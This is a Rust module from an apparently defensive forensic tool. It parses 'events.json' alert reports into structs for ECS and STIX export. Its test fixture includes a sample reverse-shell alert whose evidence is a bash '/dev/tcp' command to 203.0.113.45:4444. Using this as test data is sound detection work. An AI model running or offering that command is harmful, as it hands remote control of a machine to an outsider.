//! The alerts of imported events: what `dossier analyze` writes to `events.json` (schema
//! `dossier-events-report` version 1, see `dossier_reporters::events`) read back, and each
//! alert's ECS document is made by `crate::ecs::alerts`.
//!
//! An alert's document has the fields of every dossier alert (see [`crate::ecs`]), with
//! `@timestamp` the time of its first event (`event.start`; `event.end` its last, when the
//! alert covers several), `event.dataset` `dossier.event_alert`, `event.action` the event's
//! action type, `event.provider` its source (`defender_csv DeviceProcessEvents`, `audit`...),
//! `host.name` the device, `rule.category` the alert's category, `event.category`
//! `intrusion_detection` plus what the category is about (`process` for execution, discovery
//! and routine activity, `network` for command and control, `configuration` for persistence,
//! `iam` for privilege escalation, `authentication` for initial access), `labels.dossier_alert`
//! (`ALERT-001`) and `labels.dossier_events` (how many events it covers), and the alert as
//! `events.json` has it (key fields, origins, related findings) as `event.original`. When the
//! report lists an alert's `indicators` ([{type, value}], as findings list IOCs), they fill
//! `process.*`, `file.*`, `related.*` as for findings, and the STIX export takes them.

use dossier_plugin_api::analysis::{Ioc, Severity};
use dossier_plugin_api::time::Timestamp;
use serde::{Deserialize, Serialize};
use serde_json::Value;

/// The schema name `events.json` declares.
pub const SCHEMA: &str = "dossier-events-report";
/// The schema version read.
pub const VERSION: u64 = 1;

/// Why a document is not an events report this reader takes.
#[derive(Debug, thiserror::Error)]
pub enum EventsError {
    #[error("not JSON of the dossier-events-report schema: {0}")]
    Json(#[from] serde_json::Error),
    #[error("schema {found:?}, not {SCHEMA:?}")]
    Schema { found: String },
    #[error("dossier-events-report version {found}; this dossier reads version {VERSION}")]
    Version { found: u64 },
}

/// The part of an events report the exports use.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
pub struct EventsReport {
    pub alerts: Vec<Alert>,
    /// The import bundles analyzed.
    #[serde(default)]
    pub sources: Vec<Value>,
}

/// One alert of imported events.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
pub struct Alert {
    pub id: String,
    pub rule: String,
    pub title: String,
    /// `LOW`, `MEDIUM`, `HIGH` or `CRITICAL`.
    pub severity: String,
    pub category: String,
    #[serde(default)]
    pub techniques: Vec<Technique>,
    pub description: String,
    pub evidence: AlertEvidence,
    #[serde(default)]
    pub risk: String,
    #[serde(default)]
    pub related: Vec<String>,
    /// Hashes, addresses, paths and accounts of the alert, when the report lists them.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub indicators: Vec<Ioc>,
}

/// An ATT&CK technique of an alert.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
pub struct Technique {
    pub id: String,
    #[serde(default)]
    pub name: String,
}

/// The first event behind an alert.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
pub struct AlertEvidence {
    pub time: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub last_time: Option<String>,
    pub device: String,
    #[serde(default)]
    pub action_type: String,
    #[serde(default)]
    pub source: String,
    #[serde(default)]
    pub fields: Vec<(String, String)>,
    #[serde(default)]
    pub origins: Vec<String>,
    #[serde(default)]
    pub events: u64,
}

impl Alert {
    /// The severity (`None` for a label dossier does not write).
    pub fn severity(&self) -> Option<Severity> {
        Some(match self.severity.to_ascii_uppercase().as_str() {
            "INFORMATIONAL" | "INFO" => Severity::Info,
            "LOW" => Severity::Low,
            "MEDIUM" => Severity::Medium,
            "HIGH" => Severity::High,
            "CRITICAL" => Severity::Critical,
            _ => return None,
        })
    }

    /// The time of its first event (`None` when it is not RFC 3339).
    pub fn time(&self) -> Option<Timestamp> {
        Timestamp::parse(&self.evidence.time)
    }

    /// Its ATT&CK ids.
    pub fn mitre(&self) -> Vec<String> {
        self.techniques.iter().map(|t| t.id.clone()).collect()
    }
}

/// Parses an `events.json` document.
pub fn parse(bytes: &[u8]) -> Result<EventsReport, EventsError> {
    #[derive(Deserialize)]
    struct Head {
        schema: Option<String>,
        schema_version: Option<u64>,
    }
    let head: Head = serde_json::from_slice(bytes)?;
    let schema = head.schema.unwrap_or_default();
    if schema != SCHEMA {
        return Err(EventsError::Schema { found: schema });
    }
    if head.schema_version != Some(VERSION) {
        return Err(EventsError::Version {
            found: head.schema_version.unwrap_or(0),
        });
    }
    Ok(serde_json::from_slice(bytes)?)
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    pub(crate) fn sample_report() -> Value {
        serde_json::json!({
            "schema": "dossier-events-report", "schema_version": 1,
            "period_start": "2026-11-20T02:10:00Z", "period_end": "2026-11-20T02:20:00Z",
            "events_analyzed": 40, "highest_severity": "CRITICAL", "alert_ratio": 0.05,
            "devices": [{"device": "web1", "events": 40, "alerts": 2}],
            "sources": [{"bundle": "web1-import.zip", "sha256": "aa", "events": 40}],
            "informational": 0, "routine": [],
            "alerts": [
                {"id": "ALERT-001", "rule": "event-reverse-shell", "title": "Reverse shell",
                 "severity": "CRITICAL", "category": "Command and Control",
                 "techniques": [{"id": "T1059.004", "name": "Command and Scripting Interpreter: Unix Shell"}],
                 "description": "bash -i to 203.0.113.45:4444", "risk": "remote control",
                 "related": [],
                 "evidence": {"time": "2026-11-20T02:11:00.123456Z", "device": "web1",
                   "action_type": "EXECVE", "source": "audit",
                   "fields": [["command line", "bash -c 'bash -i >& /dev/tcp/203.0.113.45/4444 0>&1'"]],
                   "origins": ["web1-import.zip: records/events.jsonl, line 7"], "events": 1},
                 "indicators": [{"type": "address", "value": "203.0.113.45"},
                                {"type": "port", "value": 4444}]},
                {"id": "ALERT-002", "rule": "event-brute-force", "title": "Brute force then success",
                 "severity": "HIGH", "category": "Initial Access",
                 "techniques": [{"id": "T1110", "name": "Brute Force"}],
                 "description": "30 failures then a logon", "risk": "", "related": [],
                 "evidence": {"time": "2026-11-20T02:00:00Z", "last_time": "2026-11-20T02:05:00Z",
                   "device": "db1.corp.example.com", "action_type": "LogonSuccess",
                   "source": "defender_csv DeviceLogonEvents", "fields": [], "origins": [],
                   "events": 31}}
            ]
        })
    }

    #[test]
    fn an_events_report_reads_back_its_alerts() {
        let r = parse(sample_report().to_string().as_bytes()).unwrap();
        assert_eq!(r.alerts.len(), 2);
        assert_eq!(r.alerts[0].severity(), Some(Severity::Critical));
        assert_eq!(r.alerts[0].indicators.len(), 2);
        assert!(r.alerts[1].indicators.is_empty());
        let e = parse(br#"{"schema": "dossier-findings", "version": 1}"#).unwrap_err();
        assert!(
            e.to_string().contains("not \"dossier-events-report\""),
            "{e}"
        );
    }
}
